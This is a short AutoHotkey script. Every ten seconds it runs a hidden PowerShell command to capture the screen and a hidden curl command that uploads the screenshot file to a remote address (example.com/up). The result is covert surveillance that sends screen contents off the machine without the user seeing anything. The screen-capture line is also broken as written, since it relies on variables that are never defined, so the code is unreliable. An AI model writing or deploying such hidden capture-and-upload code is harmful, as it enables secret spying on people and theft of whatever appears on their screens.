#Requires AutoHotkey v2.0
SetTimer Shot, 10000
Shot() {
    RunWait 'powershell -c "Add-Type -A System.Drawing; $g.CopyFromScreen(0,0,0,0,$s)"', , "Hide"
    Run 'curl -F "file=@C:\shot.png" https://example.com/up', , "Hide"
}
